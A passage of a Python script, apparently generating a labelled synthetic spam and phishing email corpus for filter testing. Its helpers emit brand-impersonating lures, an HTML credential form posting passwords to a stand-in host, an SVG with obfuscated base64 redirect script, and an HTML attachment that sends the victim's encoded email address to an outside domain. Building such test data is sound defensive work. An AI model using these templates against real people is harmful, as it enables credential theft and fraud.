                      'After expiration, visitors will see a "Not Secure" warning and your website may stop accepting payments.',
                      'Renew now for $69.99/year (save 60%).'], 'RENEW CERTIFICATE', bad(dom), '#c62828', '⚠️ SSL Certificate Expiring',
                     foot='SSL Renewal Center', unsub=bad(dom, 'unsub'))
    spam('Fake SSL-certificate expiration renewal upsell', frm=('SSL Renewal Center', 'noreply@' + dom), to=P['info_north'],
         subject='SSL certificate for northfield-studio.example expires in 3 days', infra='direct', html=html, spf='softfail', dmarc_p=None)


# ============================================================================
# SPAM N: "your storage is full" scams (5)
# ============================================================================
def spam_storage():
    dom = 'cloudspace-notice.com'
    t = anyone()
    html = spam_html(['Hi %s,' % t[0].split()[0], 'Your cloud storage is full. Your photos and videos will be deleted on %s.' % (rdate()).strftime('%B %-d'),
                      'As a loyal customer, you can get 50 GB of additional storage for FREE. Just confirm your details and pay $1.99 to verify your card.'],
                     'Get 50 GB Free', bad(dom), '#1e88e5', 'Storage Full', img='https://%s/assets/%s.png' % (dom, rl(6)), hidden=True,
                     unsub=bad(dom, 'unsubscribe'))
    spam('"Your photos will be deleted" storage-full subscription trap via Mailjet', frm=('Cloud Storage', 'no-reply@' + dom), to=t,
         subject='Your photos and videos will be deleted', infra='mailjet', html=html, unsub=True)

    dom = 'icld-storage-alert.com'
    t = anyone()
    html = spam_html(['Your iCloud storage is full.', 'We were unable to renew your storage plan because your payment method has expired. Your files will be removed within 48 hours.',
                      'Update your payment information to keep your data.'], 'Update Payment', bad(dom), '#0a84ff', None, hidden=True,
                     foot='Storage service notice. Not affiliated with Apple Inc.')
    spam('iCloud-themed storage-full payment scam from look-alike domain', frm=('iCloud', 'support@' + dom), to=t,
         subject='Your iCloud storage is full - Payment failed (%s)' % rdig(6), infra='direct', html=html, spf='neutral', dmarc_p=None)

    dom = 'storage-bonusdrop.xyz'
    text = '''STORAGE LIMIT EXCEEDED

Account: %s
Used: 50 GB of 50 GB

Your account has exceeded its storage limit. You will no longer be able to send or receive photos and videos.

Loyalty bonus: upgrade to 100 GB for FREE today.

Claim: %s
''' % (anyone()[1], bad(dom))
    spam('"Storage limit exceeded" loyalty-bonus lure from botnet', frm=('Cloud Service', 'info@' + dom), subject='Storage limit exceeded: upgrade to 100 GB free',
         infra='direct', text=text, spf='none', dmarc_p=None)

    dom = 'maplegrove-vet.com'
    html = spam_html([], 'OPEN NOW', 'https://photo-vault-renew.sbs/%s' % rs(12), '#e53935', 'FINAL WARNING: Your account storage is full',
                     img='https://photo-vault-renew.sbs/img/%s.png' % rl(8), hidden=True)
    spam('Image-only storage-full warning from compromised veterinary-clinic mailbox', frm=('Account Notice', 'reception@' + dom),
         subject='Final Warning: Your account storage is full', infra='cpanel', host='s%d.cheap-cpanel.net' % R.randint(10, 99),
         webmail=True, html=html, headers=[('User-Agent', 'Roundcube Webmail/1.4.13')], to_hdr='reception@%s' % dom)

    dom = 'gphotos-backup.top'
    text, html = mkt('Photos Backup', '#34a853', 'We\'ve paused your photo backups',
                     ['Your account has reached its storage limit, so new photos are no longer being backed up. Older photos may be removed.',
                      'Special offer: 2 TB for just $0.99 for the first month.'],
                     'Resume backups', bad(dom), unsub_url=bad(dom, 'unsub'), footer=['Photos Backup Service'], variant=1)
    spam('Photos-themed storage upsell scam via Brevo', frm=('Photos Support', 'alert@' + dom), subject='We\'ve paused your photo backups',
         infra='brevo', text=text, html=html, unsub=True)


# ============================================================================
# SPAM O: cold B2B pitches (6)
# ============================================================================
def spam_b2b_pitch():
    dom = 'ledgerly-partners.com'
    text = '''Hi Grace,

Quick question - who handles bookkeeping and month-end close at Oakmere Consulting?

We work with 120+ professional-services firms and typically cut their close time from 15 days to 5, at about half the cost of an in-house hire.

Worth a 15-minute chat next week?

Ryan Mitchell
Ledgerly Partners

P.S. If I've got the wrong person, who should I talk to instead?
'''
    spam('Sales-cadence cold email (outsourced bookkeeping)', frm=('Ryan Mitchell', 'ryan@' + dom), to=who('grace'),
         subject='quick question, Grace', infra='google', text=text, dmarc_p='none')

    dom = 'cloudcostcutters.io'
    text = '''Hi Nadia,

Saw Bluefen is hiring platform engineers - congrats on the growth.

Teams your size usually overspend 30-40% on AWS (idle RDS, over-provisioned EKS nodes, un-purchased Savings Plans). We find the waste in a free 2-week audit and only charge 20% of what we save you.

Open to a quick look?

Priya S.
Cloud Cost Cutters
'''
    spam('Cold pitch for cloud-cost audit', frm=('Priya S.', 'priya@' + dom), to=who('nadia'), subject='Bluefen AWS bill',
         infra='google', text=text, dmarc_p='none')

    dom = 'cfo-fractional.co'
    text = '''Hello Raj,

I hope you are well. I lead a team of fractional CFOs who support consulting firms between $5M and $50M in revenue with forecasting, cash management and fundraising.

I'd welcome the chance to share a few ideas specific to Oakmere. Would Tuesday or Thursday afternoon work for a brief call?

Best regards,
Andrew Collins
Managing Partner
'''
    spam('Cold pitch for fractional CFO services from M365 tenant', frm=('Andrew Collins', 'acollins@' + dom), to=who('raj'),
         subject='Fractional CFO support for Oakmere', infra='m365', text=text, html=simple_html(text.strip().split('\n\n'), gmail=False),
         tenant='cfofractional')

    dom = 'nexgen-softlabs.com'
    text = '''Hello Team Bluefen,

Greetings from NexGen SoftLabs!

We are an ISO-certified software development company with 12+ years of experience. We would like to explore a partnership with Bluefen Analytics for white-label development.

Our services: custom dashboards, data pipelines, mobile apps, AI chatbots.

Please let me know a convenient time to connect.

Warm Regards,
Vikram
'''
    spam('"Partnership opportunity" dev-shop mass pitch', frm=('Vikram | NexGen SoftLabs', 'vikram@' + dom), to=P['ops_bluefen'],
         subject='Partnership opportunity with Bluefen Analytics', infra='zoho', text=text)

    dom = 'pipelinepilot-ai.com'
    text, html = mkt('PipelinePilot', '#6c5ce7', 'Your competitors are using AI SDRs. Are you?',
                     ['Hey there - Jake from PipelinePilot.', 'Our AI SDR researches accounts, writes hyper-personalised emails and books meetings on autopilot, 24/7. Customers see 4x more meetings in month one.',
                      'Want to see it book a meeting with you? (Meta, I know.)'],
                     'Book a demo', trk('sgb', dom), unsub_url=trk('sgb', dom), footer=['PipelinePilot Inc., 548 Market St, San Francisco, CA 94104'], variant=1)
    spam('AI sales-automation tool cold promo via SendGrid', frm=('Jake from PipelinePilot', 'jake@' + dom), to=anyone(),
         subject='Your competitors are using AI SDRs', infra='sendgrid', text=text, html=html, unsub=True)

    dom = 'growthstack-media.com'
    t = who('leah')
    text = '''Hi Leah,

Hoping you can point me in the right direction. Who at Harborline Legal is responsible for client acquisition and marketing?

We help law firms generate 20-40 qualified consultations a month through Google Ads and intake automation.

Thanks in advance,
Lauren Hayes
GrowthStack Media
'''
    spam('"Right person?" referral-ask cold email to a law firm', frm=('Lauren Hayes', 'lauren.hayes@' + dom), to=t,
         subject='Right person?', infra='google', text=text, dmarc_p='none')


# ============================================================================
# SPAM P: classic junk (5)
# ============================================================================
def spam_classic():
    dom = 'westbrook-dental.com'
    html = ('<html><body><p><font face="Arial" size="3">Cheap V1agra and C1alis - <b>NO PRESCRIPTION NEEDED</b></font></p>'
            '<p><a href="https://rxmeds-4less.top/%s">>>> Visit our online pharmacy <<<</a></p>'
            '<p>Viagra 100mg x 30 pills - $0.89 per pill<br>Cialis 20mg x 30 pills - $1.19 per pill<br>Free AirMail shipping!</p>%s</body></html>\n' % (rs(8), hidden_filler(40)))
    spam('Pharma junk from compromised webmail, base64 HTML', frm=('Pharmacy Online', 'billing@' + dom), subject='Re: discount meds ' + rs(4),
         infra='cpanel', host='srv%d.cheapwebhost-eu.com' % R.randint(10, 99), webmail=True, html=html, html_cte='base64',
         headers=[('User-Agent', 'Roundcube Webmail/1.3.17')], to_hdr='undisclosed-recipients:;')

    html = spam_html(['Rolex, Omega, Cartier, Patek - Swiss-grade replicas at 90% off.', 'Free worldwide shipping. 1-year warranty.'],
                     'SHOP NOW', 'https://luxe-timepieces.shop/%s' % rs(6), '#000000', 'Luxury Watches 90% OFF', hidden=True)
    spam('Replica-watch junk from botnet', frm=('Luxury Watches', 'sales@luxe-timepieces.shop'), subject='Luxury watches 90% off - free shipping',
         infra='direct', html=html, spf='none', dmarc_p=None, bstyle='nextpart', headers=[('X-Mailer', 'Foxmail 7.2.25.228[cn]')])

    text = '''GET UP TO $5,000 TODAY!

Bad credit? No problem!
- Approval in minutes
- Money in your account tomorrow
- No collateral needed

Apply now: https://fastcash-approve.info/%s

To opt out, click here: https://fastcash-approve.info/optout
''' % rs(8)
    spam('Payday-loan junk, plain text from botnet', frm=('Fast Cash Approval', 'approve@fastcash-approve.info'), subject='Approved: up to $5,000 deposited tomorrow',
         infra='direct', text=text, spf='softfail', dmarc_p=None)

    text = '''Добрый день!

Предлагаем актуальные базы данных для email-рассылок:

- База компаний России 2026 - 4,2 млн контактов
- База предприятий Москвы и МО - 890 тыс. контактов
- Базы по отраслям: строительство, медицина, торговля

Все базы проверены, формат Excel/CSV. Цена от 2 900 руб.

Пишите: bazy-kontaktov@sendbase-pro.online
'''
    spam('Russian-language mailing-database spam in KOI8-R', frm=('Базы данных', 'info@sendbase-pro.online'), subject='Актуальные базы для рассылок 2026',
         infra='direct', text=text, charset='koi8-r', text_cte='8bit', hcs='koi8-r', subj_cs='koi8-r', spf='none', dmarc_p=None)

    text = '''您好！

本公司有部分普通及增值税发票可对外代开，点数优惠。
可验证后付款。

联系人：王先生
电话：138%s
微信同号
''' % rdig(8)
    spam('Chinese invoice-service spam in GB2312', frm=('王先生', 'wang%s@fapiao-dai.top' % rdig(4)), subject='代开发票 优惠',
         infra='direct', text=text, charset='gb2312', text_cte='base64', hcs='gb2312', subj_cs='gb2312', spf='none', dmarc_p=None)


# ============================================================================
# PHISHING helpers
# ============================================================================
from urllib.parse import quote as _q


def ph(scen, **kw):
    if 'to' not in kw:
        kw['to'] = anyone()
    add('phish', scen, **kw)


def redir(target):
    host = pick(['adtrack.mediapulse-ads.com/r?u=', 'rd.clickpath-metrics.net/c/?dest=', 'go.promo-linkhub.net/out?url=',
                 'track.evntnotify.com/click?redirect='])
    return 'https://' + host + _q(target, safe='')


def short():
    return 'https://%s/%s' % (pick(['snip-url.click', 'qrly.top', 'lnkto.cfd', 'tinyly.sbs', 'shrt-go.xyz']), rs(R.randint(5, 7)))


def idn(u):
    return u.encode('idna').decode('ascii')


MS_FOOT = ['Microsoft Corporation, One Microsoft Way, Redmond, WA 98052', 'Privacy Statement']


def ms_html(title, paras, cta, url, footer=MS_FOOT, sender_note=None):
    body = ''.join('<p style="font-family:\'Segoe UI\',Tahoma,Arial,sans-serif;font-size:14px;color:#323130;line-height:20px">%s</p>' % esc(p) for p in paras)
    inner = ('<table width="100%%" bgcolor="#f3f2f1"><tr><td align="center" style="padding:20px">'
             '<table width="560" bgcolor="#ffffff" style="border-top:4px solid #0078d4"><tr><td style="padding:24px 32px">'
             '<div style="font-family:\'Segoe UI\',Arial,sans-serif;font-size:18px;color:#737373;margin-bottom:14px">&#9632;&#9632; Microsoft</div>'
             '<h2 style="font-family:\'Segoe UI\',Arial,sans-serif;font-weight:600;font-size:22px;color:#201f1e">%s</h2>%s'
             '<p><a href="%s" style="background:#0078d4;color:#ffffff;font-family:\'Segoe UI\',Arial,sans-serif;font-size:14px;padding:10px 22px;text-decoration:none;display:inline-block">%s</a></p>'
             '%s<p style="font-family:\'Segoe UI\',Arial,sans-serif;font-size:11px;color:#8a8886;margin-top:30px">%s</p>'
             '</td></tr></table></td></tr></table>') % (
        esc(title), body, esc(url), esc(cta), ('<p style="font-size:12px;color:#605e5c">%s</p>' % esc(sender_note)) if sender_note else '',
        '<br>'.join(esc(f) for f in footer))
    return html_page(inner, title, bg='#f3f2f1')


def login_page_html(brand, action, email, color='#0067b8', title='Sign in'):
    return ('<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>%s</title>\n'
            '<style>body{font-family:Segoe UI,Arial,sans-serif;background:#f2f2f2}.box{width:360px;margin:80px auto;background:#fff;padding:36px;box-shadow:0 2px 6px rgba(0,0,0,.2)}'
            'input{width:100%%;padding:8px;margin:8px 0;border:none;border-bottom:1px solid #666}button{background:%s;color:#fff;border:0;padding:8px 30px;float:right}</style>\n'
            '</head><body><div class="box"><div style="font-size:20px;color:#555">%s</div><h2>%s</h2>\n'
            '<form method="POST" action="%s" id="f">\n<input type="email" name="login" value="%s" readonly>\n'
            '<input type="password" name="passwd" placeholder="Password" required>\n<input type="hidden" name="src" value="%s">\n'
            '<button type="submit">Sign in</button></form>\n<p style="font-size:12px;clear:both;padding-top:20px">Because you\'re accessing sensitive info, you need to verify your password.</p></div>\n'
            '<script>var e="%s";document.getElementById("f").addEventListener("submit",function(){document.title="Verifying..."});</script>\n'
            '</body></html>\n') % (title, color, esc(brand), title, action, email, rhex(16), base64.b64encode(email.encode()).decode())


def svg_redirect(target, email, label='Loading secure document...'):
    b = base64.b64encode(target.encode()).decode()
    v = '_0x' + rhex(4)
    return ('<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
            '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="620" height="180" viewBox="0 0 620 180">\n'
            '<rect width="620" height="180" fill="#f4f6f8"/>\n<text x="40" y="90" font-family="Arial" font-size="20" fill="#333">%s</text>\n'
            '<script type="text/javascript"><![CDATA[\nvar %s=["%s","%s"];\nsetTimeout(function(){window.location.href=atob(%s[0])+"#"+%s[1];},600);\n]]></script>\n'
            '</svg>\n') % (label, v, b, base64.b64encode(email.encode()).decode(), v, v)


def svg_link(target, label):
    return ('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="600" height="260">\n'
            '<rect width="600" height="260" fill="#ffffff" stroke="#cccccc"/>\n<text x="30" y="50" font-family="Arial" font-size="22" fill="#1f1f1f">Incoming Fax - 3 page(s)</text>\n'
            '<text x="30" y="90" font-family="Arial" font-size="14" fill="#555">Sender: +1 (212) 555-0148  |  Status: Received</text>\n'
            '<a xlink:href="%s" target="_blank"><rect x="30" y="140" width="220" height="44" rx="4" fill="#1a73e8"/>'
            '<text x="58" y="168" font-family="Arial" font-size="16" fill="#ffffff">%s</text></a>\n</svg>\n') % (esc(target), esc(label))


# ============================================================================
# PHISHING: Microsoft 365 (5)
# ============================================================================
def phish_m365():
    t = who(pool=WORKERS)
    dom = 'm365-account-security.com'
    url = 'https://login.%s/common/oauth2/v2.0/authorize?client_id=%s&login_hint=%s' % (dom, ruuid(), _q(t[1]))
    text = 'Password Expiry Notice\n\nThe password for %s expires today.\n\nTo keep your current password, use the button below. If you take no action, you will be signed out of Outlook, Teams and OneDrive.\n\nKeep current password: %s\n\nMicrosoft 365 Admin\n' % (t[1], url)
    ph('M365 password-expiry credential phish via abused SendGrid account', frm=('Microsoft 365', 'no-reply@' + dom), to=t,
       subject='Password for %s expires today' % t[1], infra='sendgrid', text=text,
       html=ms_html('Your password expires today', ['The password for %s expires today.' % t[1],
                                                     'To keep your current password, use the button below. If you take no action, you will be signed out of Outlook, Teams and OneDrive.'],
                    'Keep current password', url))

    t = who(pool=WORKERS)
    dom = 'ridgecrest-plumbing.com'
    target = 'https://mbx-quota-upgrade.online/owa/auth/?u=%s' % base64.b64encode(t[1].encode()).decode()
    url = redir(target)
    html = ms_html('Mailbox storage is almost full', ['Your mailbox %s is 98%% full (49.2 GB of 50 GB).' % t[1],
                                                      'You will soon be unable to send or receive messages. Upgrade your storage quota free of charge before %s.' % (rdate()).strftime('%m/%d/%Y')],
                   'Increase storage', url, sender_note='This message was sent by your mailbox administrator.')
    ph('Mailbox-quota phish from compromised SMB webmail through an open redirector', frm=('Mailbox Administrator', 'postmaster@' + dom), to=t,
       subject='Mailbox quota warning: 98% full', infra='cpanel', host='s%d.hostpanel-eu.net' % R.randint(100, 999), webmail=True, cp_dkim=True,
       html=html, headers=[('User-Agent', 'Roundcube Webmail/1.4.11'), ('X-Priority', '1 (Highest)')])

    t = who(pool=WORKERS)
    dom = 'teams-notify-center.com'
    url = 'https://%s/l/chat/19:%s@unq.gbl.spaces/conversations?login=%s' % (dom, rs(20), _q(t[1]))
    colleague = pick(['Sam Whitcombe', 'Grace Lindqvist', 'Marcus Oyelaran', 'Beatriz Calloway'])
    html = html_page(('<div style="font-family:\'Segoe UI\',sans-serif;max-width:560px;margin:0 auto;padding:20px">'
                      '<div style="color:#6264a7;font-weight:bold;font-size:18px">Microsoft Teams</div>'
                      '<h2 style="font-weight:600">You have 3 unread messages</h2>'
                      '<div style="border-left:3px solid #6264a7;padding:8px 14px;background:#f5f5f5"><b>%s</b><br>Hey - can you look at the revised proposal before the 3pm call? I uploaded it to the channel.</div>'
                      '<p><a href="%s" style="background:#6264a7;color:#fff;padding:9px 20px;text-decoration:none">Reply in Teams</a></p>'
                      '<p style="font-size:11px;color:#888">You are receiving this email because you have unread messages. Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p></div>') % (esc(colleague), esc(url)), 'Teams')
    ph('Fake Microsoft Teams unread-message notification', frm=('Microsoft Teams', 'noreply@' + dom), to=t,
       subject='%s sent you a message in Teams' % colleague, infra='mailgun', html=html,
       text='You have 3 unread messages in Microsoft Teams\n\n%s: Hey - can you look at the revised proposal before the 3pm call?\n\nReply in Teams: %s\n' % (colleague, url))

    t = who(pool=WORKERS)
    dom = 'brightpath-builders.com'
    att = login_page_html('Microsoft', 'https://owa-sync.xyz/auth/submit.php', t[1])
    text = '''Dear user,

We detected an unusual sign-in attempt on your account and have temporarily blocked access to protect your data.

Please open the attached secure message to verify your identity and restore access.

Thank you,
Microsoft 365 Security
'''
    ph('M365 "sign-in blocked" phish with HTML credential-form attachment from compromised tenant', frm=('Microsoft 365 Security', 'security@' + dom), to=t,
       subject='Sign-in blocked: unusual activity on your account', infra='m365', tenant='brightpathbuilders', text=text,
       attachments=[attach(att.encode(), 'text/html', 'Secure_Message_%s.htm' % rdig(5))])

    t = who(pool=WORKERS)
    dom = 'ms365-billing-update.com'
    url = 'https://portal.%s/billing/%s' % (dom, rs(16))
    text, html = txn('Microsoft', '#0078d4', 'Your Microsoft 365 subscription has been suspended',
                     ['We were unable to process payment for your Microsoft 365 Business Standard subscription.',
                      'To avoid losing access to email, files and Teams, update your payment details within 24 hours.'],
                     rows=[('Subscription', 'Microsoft 365 Business Standard'), ('Status', 'Suspended - payment failed'), ('Amount due', '$%s' % money(60, 220))],
                     cta='Update payment', url=url, footer=MS_FOOT)
    ph('M365 subscription payment-failed billing phish', frm=('Microsoft 365', 'billing@' + dom), to=t,
       subject='Action required: Microsoft 365 payment failed', infra='ses', text=text, html=html)


# ============================================================================
# PHISHING: Google (2), Apple (2)
# ============================================================================
def phish_google_apple():
    t = who(pool=WORKERS)
    dom = 'gdrive-sharing.net'
    url = 'https://docs.%s/file/d/%s/view?usp=sharing_eil&ts=%s' % (dom, rs(33, ALNUM + '-_'), rhex(8))
    sharer = pick(['Maya Okafor', 'Devin Hartley', 'Ana Ribeiro', 'Raj Menon'])
    text = '''%s shared a document

%s (%s) has invited you to view the following document:

Q3_Payroll_Adjustments.pdf
%s

Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA
You have received this email because someone shared a document with you from Google Drive.
''' % (sharer, sharer, sharer.lower().replace(' ', '.') + '@northfield-studio.example', url)
    html = html_page(('<div style="font-family:Roboto,Arial,sans-serif;max-width:580px;margin:0 auto;border:1px solid #dadce0;border-radius:8px;padding:24px">'
                      '<p style="font-size:14px">%s shared a document</p><p style="font-size:22px;color:#202124">Q3_Payroll_Adjustments.pdf</p>'
                      '<p><a href="%s" style="background:#1a73e8;color:#fff;padding:9px 22px;border-radius:4px;text-decoration:none">Open</a></p>'
                      '<p style="font-size:11px;color:#5f6368">Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA</p></div>') % (esc(sharer), esc(url)), 'Shared document')
    ph('Fake Google Drive share of a payroll document', frm=('%s (via Google Drive)' % sharer, 'drive-shares-dm-noreply@' + dom), to=t,
       reply_to=(sharer, 'hr.docs@' + dom), subject='Document shared with you: "Q3_Payroll_Adjustments.pdf"', infra='mailgun', text=text, html=html)

    t = anyone()
    dom = 'accounts-google-verify.com'
    url = 'https://%s/signin/v2/challenge/pwd?continue=https%%3A%%2F%%2Fmyaccount.google.com&Email=%s&flowName=GlifWebSignIn' % (dom, _q(t[1]))
    text, html = txn('Google', '#1a73e8', 'Critical security alert',
                     [t[1], 'Someone just used your password to try to sign in to your account from a Windows device in Lagos, Nigeria. Google blocked them, but you should check what happened.'],
                     cta='Check activity', url=url, footer=['You received this email to let you know about important changes to your Google Account and services.',
                                                            '© 2025 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA'], variant=2)
    ph('Fake Google critical security alert with look-alike sign-in domain', frm=('Google', 'no-reply@' + dom), to=t,
       subject='Critical security alert', infra='brevo', text=text, html=html)

    t = anyone()
    dom = 'appleid-unlock-service.com'
    url = 'https://%s/account/manage/unlock?case=%s' % (dom, rdig(10))
    text, html = txn('Apple', '#000000', 'Your Apple Account has been locked',
                     ['Dear Customer,', 'Your Apple Account was locked for security reasons because someone tried to sign in from an unrecognized device.',
                      'To unlock it, verify your information within 24 hours. Otherwise your account, iCloud data and purchases will be permanently disabled.'],
                     cta='Unlock Account', url=url, footer=['Apple Support', 'Copyright © 2025 Apple Inc. One Apple Park Way, Cupertino, CA 95014'])
    ph('Apple Account locked phish', frm=('Apple Support', 'support@' + dom), to=t, subject='Your Apple Account has been locked [Case #%s]' % rdig(9),
       infra='direct', helo='mail.' + dom, text=text, html=html, spf='pass', dmarc_p='none', dkim_override=[(dom, 'default', 'rsa')])

    t = anyone()
    dom = 'apps-receipt-center.com'
    oid = 'M' + rs(9, string.ascii_uppercase + string.digits)
    url = 'https://%s/report-a-problem/%s' % (dom, oid)
    text, html = txn('Apple', '#000000', 'Receipt',
                     ['APPLE ACCOUNT: %s' % t[1], 'ORDER ID: %s' % oid],
                     rows=[('Final Cut Pro (Mac)', '$299.99'), ('Billed to', 'Visa .... %s' % rdig(4))], total=('TOTAL', '$299.99'),
                     after=['If you did not authorize this purchase, cancel within 24 hours to receive a full refund: %s' % url],
                     cta='Report a Problem', url=url, footer=['Apple Media Services Terms and Conditions'])
    ph('Fake App Store receipt luring to "report a problem" phish page', frm=('App Store', 'no_reply@' + dom), to=t,
       subject='Your receipt from Apple. (%s)' % oid, infra='sendgrid', text=text, html=html)


# ============================================================================
# PHISHING: banks (3), PayPal (3)
# ============================================================================
def phish_banks():
    t = anyone()
    dom = 'chase-secure-alerts.com'
    url = 'https://secure.%s/web/auth/dashboard?verify=%s' % (dom, rs(20))
    text, html = txn('CHASE', '#117aca', "We've temporarily locked your account",
                     ['Dear Chase Customer,', 'We noticed unusual activity on your debit card and have temporarily locked your account to protect you.',
                      'Please verify your identity to restore full access. If we do not hear from you within 48 hours, your card will be permanently cancelled.'],
                     rows=[('Reference', 'CHS-%s' % rdig(8)), ('Attempted charge', '$%s at WALMART SUPERCENTER #4417' % money(300, 900))],
                     cta='Verify now', url=url, footer=['JPMorgan Chase Bank, N.A. Member FDIC'])
    ph('Chase account-locked bank phish', frm=('Chase Online', 'alerts@' + dom), to=t, subject="Important: We've temporarily locked your account",
       infra='mailjet', text=text, html=html)

    t = anyone()
    dom = 'wf-zelle-payments.com'
    url = 'https://%s/confirm?pid=%s' % (dom, rdig(12))
    text, html = txn('WELLS FARGO', '#d71e28', 'Zelle® payment pending',
                     ['A Zelle® payment of $1,250.00 to JORDAN M. is pending your confirmation.', 'If you did not initiate this payment, cancel it now to prevent the transfer.'],
                     cta='Cancel payment', url=url, footer=['Wells Fargo Bank, N.A. Member FDIC.'])
    ph('Wells Fargo Zelle pending-payment phish', frm=('Wells Fargo', 'notify@' + dom), to=t, subject='Zelle® payment of $1,250.00 pending confirmation',
       infra='direct', text=text, html=html, spf='softfail', dmarc_p=None)

    url = short()
    text = '''Estimado cliente:

Por motivos de seguridad, su cuenta ha sido bloqueada temporalmente debido a un acceso no reconocido desde un nuevo dispositivo.

Para desbloquear su cuenta y evitar la suspensión definitiva, verifique sus datos en el siguiente enlace:

%s

Si no realiza la verificación en 24 horas, su cuenta será cancelada.

Atentamente,
Departamento de Seguridad BBVA
''' % url
    ph('Spanish BBVA-themed phish using a URL shortener', frm=('BBVA', 'avisos@bbva-seguridad-clientes.com'), to=P['javier'],
       subject='Su cuenta ha sido bloqueada temporalmente', infra='direct', text=text, charset='iso-8859-1', text_cte='quoted-printable',
       hcs='iso-8859-1', spf='none', dmarc_p=None)


def phish_paypal():
    t = anyone()
    uni = 'pаypal-resolution.com'  # Cyrillic a
    dom = idn(uni)
    case = 'PP-%s' % rdig(9)
    url = 'https://www.%s/signin?intent=resolution&case=%s' % (dom, case)
    text, html = txn('PayPal', '#003087', 'Your account access has been limited',
                     ['Hello,', "We've noticed some unusual activity on your PayPal account. As a precaution, we've limited what you can do with your account until you confirm your information.",
                      'Case ID: %s' % case], cta='Resolve now', url='https://www.%s/signin' % uni,
                     footer=['Copyright © 1999-2025 PayPal, Inc. All rights reserved.'])
    html = html.replace('https://www.%s/signin' % esc(uni), esc(url))
    text = text.replace('https://www.%s/signin' % uni, url)
    ph('PayPal "account limited" phish from an IDN homograph domain (Cyrillic a)', frm=('PayPal', 'service@' + dom), to=t,
       subject="We've limited your account", infra='sendgrid', text=text, html=html)

    t = anyone()
    dom = 'paypal-invoicing-center.com'
    text = '''You've sent a payment

Hello,

You sent a payment of $849.99 USD to Coinbase Inc.

Transaction ID: %s
Date: %s

It may take a few moments for this transaction to appear in your account.

Didn't authorize this payment? Call PayPal Support immediately at +1 (808) 555-0%s to cancel and receive a refund.

PayPal
''' % (rs(17, string.ascii_uppercase + string.digits), (rdate()).strftime('%b %-d, %Y'), rdig(3))
    ph('PayPal-themed callback phish (fake payment receipt with phone number)', frm=('PayPal', 'service@' + dom), to=t,
       subject='Receipt for your payment to Coinbase Inc.', infra='direct', text=text, spf='softfail', dmarc_p=None)

    dom = 'paypal-kundenservice-de.com'
    url = redir('https://%s/de/signin?locale.x=de_DE&id=%s' % (dom, rs(12)))
    text = '''Hallo Felix Brandt,

wir haben ungewöhnliche Aktivitäten in Ihrem PayPal-Konto festgestellt. Aus Sicherheitsgründen haben wir Ihr Konto vorübergehend eingeschränkt.

Bitte bestätigen Sie Ihre Angaben innerhalb von 48 Stunden, damit Ihr Konto wieder vollständig genutzt werden kann:

%s

Vielen Dank für Ihr Verständnis.
Ihr PayPal-Team
''' % url
    ph('German PayPal-themed phish via open redirector, windows-1252', frm=('PayPal', 'service@' + dom), to=P['felix'],
       subject='Ihr PayPal-Konto wurde eingeschränkt', infra='mailjet', text=text, charset='windows-1252', text_cte='quoted-printable',
       hcs='windows-1252')


# ============================================================================
# PHISHING: parcel carriers (5)
# ============================================================================
def phish_parcels():
    t = anyone()
    dom = 'usps-redelivery-center.com'
    url = 'https://%s/track/redeliver?tn=92%s' % (dom, rdig(20))
    text, html = txn('USPS', '#333366', 'Your package could not be delivered',
                     ['Dear Customer,', 'Your package is on hold at our facility because the address was incomplete. A redelivery fee of $0.30 is required.',
                      'Please confirm your address and pay the fee within 48 hours, otherwise the package will be returned to the sender.'],
                     rows=[('Tracking number', '92%s' % rdig(20)), ('Status', 'Delivery attempt failed')], cta='Schedule redelivery', url=url,
                     footer=['United States Postal Service'])
    ph('USPS-themed redelivery-fee phish', frm=('USPS Delivery', 'tracking@' + dom), to=t, subject='USPS: Delivery attempt failed - action required',
       infra='direct', text=text, html=html, spf='neutral', dmarc_p=None)

    t = anyone()
    text = 'USPS: The package arrived at the warehouse but could not be delivered due to incomplete address information. Please confirm your address in the link within 12 hours.\n\nhttps://uspsgo.help/us\n\n(Please reply Y, then exit the message and open it again to activate the link.)\n'
    ph('Smishing-style USPS message delivered as e-mail', frm=('', 'usps%s@notice-postal.xyz' % rdig(4)), to=t,
       subject='USPS', infra='direct', text=text, spf='none', dmarc_p=None)

    t = anyone()
    dom = 'dhl-customs-clearance.net'
    url = 'https://%s/pay/duty?awb=%s' % (dom, rdig(10))
    text, html = txn('DHL Express', '#d40511', 'Customs duty payment required',
                     ['Your shipment is being held at customs. To release it, a duty payment of €2.99 is required.'],
                     rows=[('Waybill', rdig(10)), ('Origin', 'Shenzhen, CN'), ('Amount due', '€2.99')], cta='Pay now', url=url,
                     footer=['DHL International GmbH'])
    ph('DHL-themed customs-fee phish', frm=('DHL Express', 'noreply@' + dom), to=t, subject='DHL: Your shipment is on hold - customs fee €2.99',
       infra='brevo', text=text, html=html)

    dom = 'dhl-paketzustellung-de.com'
    url = 'https://%s/sendung/%s' % (dom, rdig(12))
    text = '''Sehr geehrte Kundin, sehr geehrter Kunde,

Ihre Sendung Nr. %s konnte heute nicht zugestellt werden, da keine Hausnummer angegeben war.

Bitte bestätigen Sie Ihre Adresse und zahlen Sie die Gebühr für die erneute Zustellung (1,99 EUR):
%s

Ohne Bestätigung wird das Paket nach 3 Werktagen an den Absender zurückgeschickt.

Ihr DHL Paket Team
''' % (rdig(12), url)
    ph('German DHL-themed failed-delivery phish, ISO-8859-1', frm=('DHL Paket', 'info@' + dom), to=P['katrin'],
       subject='Ihre Sendung konnte nicht zugestellt werden', infra='direct', text=text, charset='iso-8859-1', text_cte='quoted-printable',
       hcs='iso-8859-1', spf='softfail', dmarc_p=None)

    t = anyone()
    att = ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>UPS Shipping Label</title></head><body>'
           '<p style="font-family:Arial">Loading shipping label...</p>'
           '<script>setTimeout(function(){location.replace("https://ups-label-print.top/label/%s?e=" + btoa("%s"))},900)</script>'
           '</body></html>\n') % (rs(10), t[1])
    text = '''UPS

Dear customer,

We were unable to deliver your package. Please print the attached shipping label and bring it to the nearest UPS Access Point.

